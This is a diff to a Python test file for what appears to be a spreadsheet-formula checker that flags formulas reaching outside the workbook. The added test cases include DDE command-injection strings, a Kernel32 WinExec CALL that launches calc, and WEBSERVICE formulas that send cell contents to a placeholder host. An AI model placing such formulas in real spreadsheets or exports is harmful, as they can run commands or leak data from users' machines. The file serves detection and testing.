@@ -63,6 +63,12 @@ def test_it_shifts_as_openpyxl_does(pieces: list[str], rows: int, columns: int) 
         "cmd|'/c calc'!A0",
         "Excel|'a.xls'!R1C1",
         "1+DDE|topic!item",
+        '_xlfn.WEBSERVICE("http://example.invalid/"&A1)',
+        '1+webservice ("http://example.invalid/")',
+        "_xlfn._xlws.IMAGE(A1)",
+        'RTD("prog.id",,"x")',
+        'CALL("Kernel32","WinExec","JCJ","calc",0)',
+        'REGISTER.ID("a","b")',
     ],
 )
 def test_a_formula_that_reads_something_outside_is_found(formula: str) -> None:
@@ -79,6 +85,11 @@ def test_a_formula_that_reads_something_outside_is_found(formula: str) -> None:
         '"[1]Sheet1!A1"',
         "\"cmd|'x'!A0\"&A1",
         "INDEX(表[a],1)*表2!B1",
+        "[0]!合计+'[0]表'!A1",
+        "[@件数]*2",
+        '_xlfn.DISPIMG("ID_0F",1)',
+        '"WEBSERVICE("&A1&")"',
+        "MYCALL(A1)+RECALL(A2)+CALLS",
     ],
 )
 def test_a_formula_that_stays_inside_is_not(formula: str) -> None:
